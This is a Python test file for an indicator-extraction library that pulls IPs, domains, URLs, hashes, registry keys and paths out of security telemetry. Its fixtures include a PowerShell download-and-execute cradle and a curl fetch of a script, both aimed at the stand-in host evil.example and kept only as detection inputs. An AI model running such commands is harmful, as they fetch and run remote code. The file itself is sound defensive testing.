"""Which observables stand in which field, and how they are taken out: golden pairs, then properties."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kulla.detection.folding import fold
from kulla.detection.observables import TABLE, Mode, extract, observable_fields, observables_in
from kulla.model.observable import MAX_BYTES, ObservableType, normal
from kulla.telemetry.fields import name_key
from kulla.telemetry.flatten import flatten

MD5, SHA1, SHA256 = "ab" * 16, "cd" * 20, "ef" * 32


def found(text: str, mode: Mode) -> list[tuple[str, str]]:
    return [(str(one.type), one.value) for one in observables_in(text, mode)]


@pytest.mark.parametrize(
    ("mode", "text", "expected"),
    [
        (Mode.IP, " 192.0.2.1 ", [("ipv4-addr", "192.0.2.1")]),
        (Mode.IP, "192.0.2.1:50123", [("ipv4-addr", "192.0.2.1")]),
        (Mode.IP, "[2001:DB8::A]:443", [("ipv6-addr", "2001:db8::a")]),
        (Mode.IP, "fe80::1%12", [("ipv6-addr", "fe80::1")]),
        (Mode.IP, "::ffff:192.0.2.1", [("ipv4-addr", "192.0.2.1")]),
        (Mode.IP, "::ffff:c000:201", [("ipv4-addr", "192.0.2.1")]),
        (Mode.IP, "-", []),
        (Mode.IP, "192.0.2.01", []),
        (Mode.IP | Mode.DOMAIN, "ec2.amazonaws.example", [("domain-name", "ec2.amazonaws.example")]),
        (Mode.DOMAIN, "WWW.Example.EXAMPLE.:8080", [("domain-name", "www.example.example")]),
        (Mode.DOMAIN, "WORKSTATION5", []),
        (Mode.DOMAIN, "İstanbul.example", [("domain-name", "istanbul.example")]),
        (Mode.URL, "https://u:p@Evil.example:443/a?B=c#d", [("url", "https://evil.example/a?b=c"), ("domain-name", "evil.example")]),
        (Mode.URL, "http://192.0.2.1:8080", [("url", "http://192.0.2.1:8080/"), ("ipv4-addr", "192.0.2.1")]),
        (Mode.URL, "http://[2001:db8::1]/", [("url", "http://[2001:db8::1]/"), ("ipv6-addr", "2001:db8::1")]),
        (Mode.URL, "evil.example:443", [("domain-name", "evil.example")]),
        (Mode.URL, "/owa/auth.aspx", []),
        (Mode.EMAIL, "Joe <Joe@Evil.example>; jane@b.example,", [("email-addr", "joe@evil.example"), ("email-addr", "jane@b.example")]),
        (Mode.EMAIL, "joe@localhost", []),
        (Mode.PATH, '"C:\\Temp\\Evil.exe"', [("file:name", "evil.exe"), ("file:path", "c:\\temp\\evil.exe"), ("directory", "c:\\temp")]),
        (Mode.PATH, "\\??\\C:\\x.sys", [("file:name", "x.sys"), ("file:path", "c:\\x.sys"), ("directory", "c:")]),
        (Mode.PATH, "/tmp/.x/", [("file:path", "/tmp/.x/"), ("directory", "/tmp/.x")]),
        (Mode.PATH, "evil.exe", [("file:name", "evil.exe")]),
        (
            Mode.HASHES,
            f"SHA1={SHA1.upper()},MD5={MD5},SHA256={SHA256},IMPHASH={MD5}",
            [("file:hashes.SHA-1", SHA1), ("file:hashes.MD5", MD5), ("file:hashes.SHA-256", SHA256), ("file:hashes.IMPHASH", MD5)],
        ),
        (Mode.IMPHASH, MD5.upper(), [("file:hashes.IMPHASH", MD5)]),
        (Mode.USER, "CORP\\Joe", [("user-account", "corp\\joe"), ("user-account", "joe")]),
        (
            Mode.REGISTRY,
            "HKU\\S-1-5-21-1-2-3-1001\\Software\\Run\\Evil",
            [("windows-registry-key", "hkcu\\software\\run\\evil"), ("windows-registry-key", "hkcu\\software\\run")],
        ),
        (Mode.REGISTRY, "\\REGISTRY\\MACHINE\\SYSTEM", [("windows-registry-key", "hklm\\system"), ("windows-registry-key", "hklm")]),
        (Mode.MUTEX, "Global\\Evil", [("mutex", "global\\evil")]),
        (Mode.COMMAND, " net  user ", [("process:command_line", "net  user")]),
        (
            Mode.SCAN,
            "type:  5 cdn.evil.example;::ffff:192.0.2.9;2001:db8::5;",
            [("ipv4-addr", "192.0.2.9"), ("domain-name", "cdn.evil.example"), ("ipv6-addr", "2001:db8::5")],
        ),
        (
            Mode.SCAN,
            "powershell IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); rundll32 C:\\x\\bad.dll,Start",
            [
                ("domain-name", "net.webclient"),
                ("domain-name", "evil.example"),
                ("file:name", "a.ps1"),
                ("file:name", "bad.dll"),
                ("url", "http://evil.example/a.ps1"),
            ],
        ),
        (Mode.SCAN, "from 192.0.2.1:80, to (198.51.100.2). v10.0.17763.1", [("ipv4-addr", "192.0.2.1"), ("ipv4-addr", "198.51.100.2")]),
        (Mode.SCAN, "at 12:34:56 std::string 00:11:22:33:44:55 [IO.File]::Open", [("domain-name", "io.file")]),
        (Mode.SCAN, f"hash {SHA256} and g{MD5}", [("file:hashes.SHA-256", SHA256)]),
    ],
)
def test_what_a_value_holds(mode: Mode, text: str, expected: list[tuple[str, str]]):
    assert sorted(found(text, mode)) == sorted(expected)


EVENTS: dict[str, tuple[dict[str, object], set[tuple[str, str, str]]]] = {
    "sysmon network connection": (
        {"Event": {"System": {"EventID": 3}, "EventData": {"DestinationIp": "192.0.2.7", "DestinationHostname": "c2.example",
                                                             "SourceIp": "10.0.0.1"}}},
        {("destinationip", "ipv4-addr", "192.0.2.7"), ("destinationhostname", "domain-name", "c2.example"),
         ("sourceip", "ipv4-addr", "10.0.0.1")},
    ),
    "security logon": (
        {"winlog": {"event_data": {"IpAddress": "::ffff:192.0.2.7", "TargetUserName": "joe"}}},
        {("ipaddress", "ipv4-addr", "192.0.2.7"), ("targetusername", "user-account", "joe")},
    ),
    "zeek conn and dns": (
        {"id.orig_h": "10.0.0.1", "id": {"resp_h": "192.0.2.7"}, "query": "c2.example", "answers": ["192.0.2.8", "d.example"]},
        {
            ("id.orig_h", "ipv4-addr", "10.0.0.1"), ("id.resp_h", "ipv4-addr", "192.0.2.7"), ("query", "domain-name", "c2.example"),
            ("answers", "ipv4-addr", "192.0.2.8"), ("answers", "domain-name", "d.example"),
        },
    ),
    "suricata": (
        {"src_ip": "192.0.2.7", "tls": {"sni": "c2.example"}, "fileinfo": {"md5": MD5, "filename": "/a/b.exe"}},
        {
            ("src_ip", "ipv4-addr", "192.0.2.7"), ("tls.sni", "domain-name", "c2.example"), ("fileinfo.md5", "file:hashes.MD5", MD5),
            ("fileinfo.filename", "file:name", "b.exe"), ("fileinfo.filename", "file:path", "/a/b.exe"),
            ("fileinfo.filename", "directory", "/a"),
        },
    ),
    "cloudtrail": (
        {"sourceIPAddress": "192.0.2.7", "userIdentity": {"userName": "joe"}},
        {("sourceipaddress", "ipv4-addr", "192.0.2.7"), ("useridentity.username", "user-account", "joe")},
    ),
    "web server": (
        {"c-ip": "192.0.2.7", "cs-host": "www.example:80", "cs-referer": "http://evil.example/x"},
        {
            ("c-ip", "ipv4-addr", "192.0.2.7"), ("cs-host", "domain-name", "www.example"),
            ("cs-referer", "url", "http://evil.example/x"), ("cs-referer", "domain-name", "evil.example"),
        },
    ),
    "message tracking": (
        {"client-ip": "192.0.2.7", "sender-address": "Joe@evil.example", "recipient-address": "a@b.example;c@d.example"},
        {
            ("client-ip", "ipv4-addr", "192.0.2.7"), ("sender-address", "email-addr", "joe@evil.example"),
            ("recipient-address", "email-addr", "a@b.example"), ("recipient-address", "email-addr", "c@d.example"),
        },
    ),
    "microsoft 365": (
        {"ClientIP": "[2001:db8::1]:5000", "UserId": "joe@corp.example"},
        {
            ("clientip", "ipv6-addr", "2001:db8::1"), ("userid", "user-account", "joe@corp.example"),
            ("userid", "email-addr", "joe@corp.example"),
        },
    ),
    "syslog": ({"message": "Failed password for root from 192.0.2.7 port 22"}, {("message", "ipv4-addr", "192.0.2.7")}),
    "auditd": ({"addr": "192.0.2.7", "acct": "joe", "exe": "/usr/bin/su", "a0": "curl", "a1": "http://evil.example/x.sh"}, {
        ("addr", "ipv4-addr", "192.0.2.7"), ("acct", "user-account", "joe"), ("exe", "file:name", "su"),
        ("exe", "file:path", "/usr/bin/su"),
        ("exe", "directory", "/usr/bin"), ("a1", "url", "http://evil.example/x.sh"), ("a1", "domain-name", "evil.example"),
        ("a1", "file:name", "x.sh"), ("a1", "domain-name", "x.sh"),
    }),
    "no declared field": ({"nonsense": "192.0.2.7", "EventID": 1}, set()),
    "nothing but containers and null": ({"DestinationIp": None, "answers": [{}]}, set()),
}  # fmt: skip


@pytest.mark.parametrize("name", EVENTS)
def test_what_an_event_holds(name: str):
    event, expected = EVENTS[name]
    assert {(field, str(one.type), one.value) for field, one in extract(flatten(json.dumps(event).encode()))} == expected


def test_the_table_is_keyed_as_events_are_and_every_mode_is_in_use():
    assert set(observable_fields()) == {name_key(name) for names in TABLE.values() for name in names}
    used = Mode(0)
    for mode in TABLE:
        used |= mode
    assert used == sum(Mode)


def test_no_field_is_listed_twice_for_one_mode():
    for names in TABLE.values():
        keys = [name_key(name) for name in names]
        assert len(keys) == len(set(keys))


def test_what_is_too_long_to_be_an_indicator_is_not_extracted():
    assert found("http://evil.example/" + "x" * MAX_BYTES, Mode.URL) == [("domain-name", "evil.example")]


@given(text=st.text(max_size=80), mode=st.integers(min_value=1, max_value=4095))
def test_case_makes_no_difference_and_values_are_in_normal_form(text: str, mode: int):
    values = observables_in(text, Mode(mode))
    assert values == observables_in(fold(text), Mode(mode))
    for one in values:
        assert fold(one.value) == one.value
        if one.type not in (
            ObservableType.DIRECTORY,
            ObservableType.FILE_PATH,
            ObservableType.REGISTRY_KEY,
            ObservableType.USER,
            ObservableType.FILE_NAME,
        ):
            assert normal(one.type, one.value) == one.value


@given(st.ip_addresses())
def test_every_address_is_found_in_text_and_alone(address: object):
    alone = observables_in(str(address), Mode.IP)
    assert len(alone) == 1
    assert alone[0] in observables_in(f"from {address} to nowhere", Mode.SCAN)
    assert alone == observables_in(alone[0].value, Mode.IP)
